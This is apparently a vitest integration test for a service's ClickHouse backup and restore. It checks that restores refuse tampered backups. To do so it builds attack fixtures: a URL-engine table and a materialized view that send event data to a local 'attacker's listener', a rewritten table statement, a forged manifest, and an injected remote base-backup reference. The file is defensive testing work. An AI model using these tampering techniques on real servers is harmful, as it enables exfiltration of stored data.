// Modes: server only — the server's own BACKUP/RESTORE, on a ClickHouse server of its own whose backup
// directory the test can reach (to tamper with a backup as someone with access to the server's disk would).
import { cpSync, existsSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startClickHouseServer, type ClickHouseServer } from '../../scripts/clickhouse-server.mjs';
import { adminCli } from '../support/admin-cli.js';
import { activityStream, STREAM_LISTS, STREAM_PERIOD, streamStats } from '../support/kafka.js';
import { startTestService, tenant, type TestService } from '../support/service.js';

const ADMIN = 'server-backup-admin-token-0123456789-abcdef';
const HMAC_KEY = 'server-backup-hmac-key-0123456789-abcdef01';
const USER = 3;
const KEY = 'server-key';
const SHAPES = ['', '&workflow_ids=2', '&workflow_ids=1,3,4'];

/**
 * backup and restore with CLICKHOUSE_URL (docs/lifecycle.md, "With CLICKHOUSE_URL"), against a real
 * ClickHouse server (scripts/clickhouse-server.mjs): the backup carries a manifest written by mailstats
 * (through the server, inside the backup directory); restore reads and checks it, has the server compare
 * every statement of the backup with ours before any data is restored, restores into a new database
 * and checks the content against the manifest. A tampered backup is refused, its database dropped.
 */
describe('backup and restore on a ClickHouse server', () => {
  let server: ClickHouseServer;
  let svc: TestService | undefined;
  let restored: TestService | undefined;
  /** Everything the attacker's listener received. */
  const received: string[] = [];
  let listener: Server;
  let listenerUrl = '';
  const { wire, model } = activityStream(600, 91);
  const first = wire.slice(0, 400);

  const sql = async (q: string) => {
    const res = await fetch(`${server.url}/`, { method: 'POST', body: q });
    const text = await res.text();
    if (!res.ok) throw new Error(text);
    return text;
  };
  const restoreEnv = (database: string, extra: Record<string, string> = {}) => ({
    CLICKHOUSE_URL: server.url,
    CLICKHOUSE_DATABASE: database,
    ...extra,
  });
  const databaseExists = async (name: string) =>
    (await sql(`SELECT count() FROM system.databases WHERE name = '${name}'`)).trim() === '1';
  const statsOf = async (s: TestService, listId: number, shape: string) => {
    const r = await s.call(
      `/api/1.2/rest/${USER}/${KEY}/automation.stats.json?list_id=${listId}${STREAM_PERIOD}${shape}`,
    );
    expect(r.status).toBe(200);
    return r.body;
  };

  beforeAll(async () => {
    listener = createServer((req, res) => {
      let body = '';
      req.on('data', (c: Buffer) => (body += c.toString()));
      req.on('end', () => {
        received.push(`${req.method} ${req.url} ${body}`);
        res.end();
      });
    });
    await new Promise<void>((ok) => listener.listen(0, '127.0.0.1', ok));
    const addr = listener.address();
    listenerUrl = `http://127.0.0.1:${typeof addr === 'object' && addr ? addr.port : 0}/`;

    server = await startClickHouseServer();
    svc = await startTestService({
      CLICKHOUSE_URL: server.url,
      CLICKHOUSE_DATABASE: 'backup_source',
      ADMIN_TOKEN: ADMIN,
      BACKUP_HMAC_KEY: HMAC_KEY,
    });
    expect((await svc.ingest(tenant({ userId: USER, apiKey: KEY, lists: STREAM_LISTS }))).status).toBe(200);
    expect((await svc.ingest(first)).status).toBe(200);
  }, 180_000);
  afterAll(async () => {
    await restored?.stop();
    await svc?.stop();
    await server?.stop();
    listener?.close();
  });

  const backup = async (name: string) => {
    const dir = join(server.backupsDir, name);
    const b = await adminCli(['backup', dir], { MAILSTATS_URL: svc!.url!, ADMIN_TOKEN: ADMIN });
    expect(b.code, b.err).toBe(0);
    expect(b.out).toMatch(new RegExp(`backup written to ${dir} \\(schema version \\d+, [\\d.]+ s\\)`));
    return dir;
  };

  it('backup writes a manifest into the backup; restore into a new database answers as the source', async () => {
    const dir = await backup('b1');
    // The manifest is a backup of its own inside the directory, written by the server for mailstats.
    expect(existsSync(join(dir, 'mailstats-manifest', '.backup'))).toBe(true);

    const r = await adminCli(['restore', dir], restoreEnv('backup_restored', { BACKUP_HMAC_KEY: HMAC_KEY }));
    expect(r.code, r.err).toBe(0);
    expect(r.out).toMatch(
      /restored .* \(database backup_source, schema version \d+, taken .*\) into backup_restored/,
    );

    restored = await startTestService({
      CLICKHOUSE_URL: server.url,
      CLICKHOUSE_DATABASE: 'backup_restored',
      ADMIN_TOKEN: ADMIN,
    });
    const held = model.slice(0, first.length);
    for (const list of STREAM_LISTS)
      for (const shape of SHAPES) {
        const answer = await statsOf(restored, list.list_id, shape);
        expect(answer).toEqual(await statsOf(svc!, list.list_id, shape));
        expect(answer).toEqual(streamStats(held, list, shape));
      }
    await restored.stop();
    restored = undefined;

    // Not into a database that holds tables.
    const again = await adminCli(['restore', dir], restoreEnv('backup_restored'));
    expect(again.code).toBe(2);
    expect(again.err).toMatch(/database backup_restored on .* is not empty/);
  }, 300_000);

  it('a backup with a table and a view mailstats never creates is refused before any of it runs', async () => {
    await sql(
      `CREATE TABLE backup_source.leak (event_id String) ENGINE = URL('${listenerUrl}', JSONEachRow)`,
    );
    await sql(
      'CREATE MATERIALIZED VIEW backup_source.leak_mv TO backup_source.leak AS SELECT event_id FROM backup_source.events',
    );
    // The service itself takes it: its manifest is genuine, and signed.
    let dir: string;
    try {
      dir = await backup('evil');
    } finally {
      await sql('DROP TABLE IF EXISTS backup_source.leak_mv');
      await sql('DROP TABLE IF EXISTS backup_source.leak');
    }
    const r = await adminCli(['restore', dir], restoreEnv('backup_evil', { BACKUP_HMAC_KEY: HMAC_KEY }));
    expect(r.out).not.toMatch(/restored/);
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/is not what mailstats creates; refused: leak(_mv)? \(not a table of mailstats/);
    expect(r.err).toMatch(/database backup_evil was dropped again/);
    expect(await databaseExists('backup_evil')).toBe(false);
    expect(await sql("SELECT count() FROM system.tables WHERE name LIKE 'leak%'")).toBe('0\n');
    expect(received).toEqual([]);
  }, 300_000);

  it('a table whose statement was changed in the backup is refused, naming it', async () => {
    const dir = join(server.backupsDir, 'altered');
    cpSync(join(server.backupsDir, 'b1'), dir, { recursive: true });
    const file = join(dir, 'metadata', 'backup_source', 'erasures.sql');
    writeFileSync(
      file,
      readFileSync(file, 'utf8').replace(
        /ENGINE = MergeTree .*$/s,
        `ENGINE = URL('${listenerUrl}', JSONEachRow)`,
      ),
    );
    const r = await adminCli(['restore', dir], restoreEnv('backup_altered', { BACKUP_HMAC_KEY: HMAC_KEY }));
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/not what mailstats creates; refused: erasures \(its statement differs: .*URL/);
    expect(await databaseExists('backup_altered')).toBe(false);
    expect(received).toEqual([]);
  }, 300_000);

  it('with BACKUP_HMAC_KEY: another key, or a manifest changed without the key, is refused', async () => {
    const dir = join(server.backupsDir, 'b1');
    const other = await adminCli(
      ['restore', dir],
      restoreEnv('backup_other_key', { BACKUP_HMAC_KEY: 'another-hmac-key-0123456789-abcdef012345' }),
    );
    expect(other.code).toBe(2);
    expect(other.err).toMatch(/signature does not match BACKUP_HMAC_KEY/);
    expect(await databaseExists('backup_other_key')).toBe(false);

    // Someone who can write the server's disk rewrites the manifest (an older created_at), keeping its
    // signature: without the key it cannot sign the change.
    const forged = join(server.backupsDir, 'forged');
    cpSync(dir, forged, { recursive: true, filter: (src) => !src.includes('mailstats-manifest') });
    await sql('CREATE DATABASE forger');
    await sql('CREATE TABLE forger.m (manifest String) ENGINE = Memory');
    await sql(
      `RESTORE TABLE mailstats_manifest.manifest AS forger.m FROM File('${join(dir, 'mailstats-manifest')}') SETTINGS create_table = 'must-exist'`,
    );
    const manifest = JSON.parse(
      await sql('SELECT manifest FROM forger.m FORMAT JSONEachRow').then((t) => JSON.parse(t).manifest),
    );
    expect(manifest).toMatchObject({ format: 'mailstats-backup', database: 'backup_source' });
    manifest.created_at = '2020-01-01T00:00:00.000Z';
    await sql('TRUNCATE TABLE forger.m');
    await sql(
      `INSERT INTO forger.m FORMAT JSONEachRow ${JSON.stringify({ manifest: JSON.stringify(manifest) })}`,
    );
    await sql(
      `BACKUP TABLE forger.m AS mailstats_manifest.manifest TO File('${join(forged, 'mailstats-manifest')}')`,
    );
    await sql('DROP DATABASE forger SYNC');
    const f = await adminCli(['restore', forged], restoreEnv('backup_forged', { BACKUP_HMAC_KEY: HMAC_KEY }));
    expect(f.code).toBe(2);
    expect(f.err).toMatch(/signature does not match BACKUP_HMAC_KEY/);
    expect(await databaseExists('backup_forged')).toBe(false);
  }, 300_000);

  it("a manifest of another backup does not match the backup's content: refused after the RESTORE, dropped", async () => {
    expect((await svc!.ingest(wire.slice(first.length))).status).toBe(200);
    const later = await backup('b2');
    const mixed = join(server.backupsDir, 'mixed');
    cpSync(later, mixed, { recursive: true, filter: (src) => !src.includes('mailstats-manifest') });
    cpSync(join(server.backupsDir, 'b1', 'mailstats-manifest'), join(mixed, 'mailstats-manifest'), {
      recursive: true,
    });
    const r = await adminCli(['restore', mixed], restoreEnv('backup_mixed', { BACKUP_HMAC_KEY: HMAC_KEY }));
    expect(r.code).toBe(2);
    expect(r.err).toMatch(
      new RegExp(
        `the content of .* does not match the manifest: .*events \\(${wire.length} rows, the manifest says ${first.length}\\)`,
      ),
    );
    expect(r.err).toMatch(/database backup_mixed was dropped again/);
    expect(await databaseExists('backup_mixed')).toBe(false);

    // The later backup itself restores, with every record.
    const ok = await adminCli(['restore', later], restoreEnv('backup_later', { BACKUP_HMAC_KEY: HMAC_KEY }));
    expect(ok.code, ok.err).toBe(0);
    expect(await sql('SELECT count() FROM backup_later.events')).toBe(`${wire.length}\n`);
  }, 300_000);

  it('a base backup named in an index is refused before the server reads anything of the backup', async () => {
    received.length = 0;
    const base = `S3('${listenerUrl}bucket/base/', 'AKIAEXAMPLEEXAMPLE', 'secret')`;
    // In the manifest's own backup, with its statement marked as read from the base backup.
    const inManifest = join(server.backupsDir, 'based-manifest');
    cpSync(join(server.backupsDir, 'b1'), inManifest, { recursive: true });
    const index = join(inManifest, 'mailstats-manifest', '.backup');
    const xml = readFileSync(index, 'utf8');
    expect(xml).toMatch(/<contents><file><name>[^<]+<\/name><size>\d+<\/size><checksum>/);
    writeFileSync(
      index,
      xml
        .replace('<contents>', `<base_backup>${base}</base_backup><contents>`)
        .replace(
          /(<file><name>[^<]+<\/name><size>\d+<\/size><checksum>[0-9a-f]+<\/checksum>)/g,
          '$1<use_base>true</use_base>',
        ),
    );
    const r = await adminCli(
      ['restore', inManifest],
      restoreEnv('backup_based', { BACKUP_HMAC_KEY: HMAC_KEY }),
    );
    expect(received).toEqual([]);
    expect(r.code, r.err).toBe(2);
    expect(r.err).toMatch(/mailstats-manifest\/\.backup: <base_backup> in <config>/);
    expect(await databaseExists('backup_based')).toBe(false);

    // In the database's backup, named but used by no file.
    const unused = join(server.backupsDir, 'based-unused');
    cpSync(join(server.backupsDir, 'b1'), unused, { recursive: true });
    const main = join(unused, '.backup');
    writeFileSync(
      main,
      readFileSync(main, 'utf8').replace('<contents>', `<base_backup>${base}</base_backup><contents>`),
    );
    const u = await adminCli(['restore', unused], restoreEnv('backup_based', { BACKUP_HMAC_KEY: HMAC_KEY }));
    expect(received).toEqual([]);
    expect(u.out).not.toMatch(/restored/);
    expect(u.code, u.err).toBe(2);
    expect(u.err).toMatch(/\.backup: <base_backup> in <config>/);
    expect(await databaseExists('backup_based')).toBe(false);
  }, 300_000);

  it('processes running on the database restored into answer from the restored data', async () => {
    // A service on its own database: a tenant and the first records, a backup, then the rest.
    const live = await startTestService({
      CLICKHOUSE_URL: server.url,
      CLICKHOUSE_DATABASE: 'backup_live',
      ADMIN_TOKEN: ADMIN,
      BACKUP_HMAC_KEY: HMAC_KEY,
    });
    try {
      expect((await live.ingest(tenant({ userId: USER, apiKey: KEY, lists: STREAM_LISTS }))).status).toBe(
        200,
      );
      expect((await live.ingest(first)).status).toBe(200);
      const dir = join(server.backupsDir, 'live');
      const b = await adminCli(['backup', dir], { MAILSTATS_URL: live.url!, ADMIN_TOKEN: ADMIN });
      expect(b.code, b.err).toBe(0);
      expect((await live.ingest(wire.slice(first.length))).status).toBe(200);
      const list = STREAM_LISTS[0]!;
      // What it holds: every record (asked for, so cached).
      expect(await statsOf(live, list.list_id, '')).toEqual(streamStats(model, list, ''));

      // The operator drops the database under it (still running) and restores the backup into it.
      await sql('DROP DATABASE backup_live SYNC');
      const r = await adminCli(['restore', dir], restoreEnv('backup_live', { BACKUP_HMAC_KEY: HMAC_KEY }));
      expect(r.code, r.err).toBe(0);

      // The running process answers from the restored data (the first records only), once its change
      // poll has run (STATS_CHANGE_POLL_MS): asked until then, and for at most 30 s on a loaded machine.
      const held = streamStats(model.slice(0, first.length), list, '');
      const until = Date.now() + 30_000;
      let answer: unknown;
      do {
        const res = await live.call(
          `/api/1.2/rest/${USER}/${KEY}/automation.stats.json?list_id=${list.list_id}${STREAM_PERIOD}`,
        );
        answer = res.status === 200 ? res.body : res.status;
        if (JSON.stringify(answer) === JSON.stringify(held)) break;
        await new Promise((ok) => setTimeout(ok, 100));
      } while (Date.now() < until);
      expect(answer).toEqual(held);
      for (const l of STREAM_LISTS)
        for (const shape of SHAPES)
          expect(await statsOf(live, l.list_id, shape)).toEqual(
            streamStats(model.slice(0, first.length), l, shape),
          );
    } finally {
      await live.stop();
    }
  }, 300_000);

  it('a backup without a manifest (not written by mailstats) is refused', async () => {
    const dir = join(server.backupsDir, 'plain');
    expect(await sql(`BACKUP DATABASE backup_source TO File('${dir}')`)).toMatch(/BACKUP_CREATED/);
    const r = await adminCli(['restore', dir], restoreEnv('backup_plain'));
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/is not a mailstats backup \(no mailstats-manifest/);
    expect(await databaseExists('backup_plain')).toBe(false);
  }, 300_000);
});
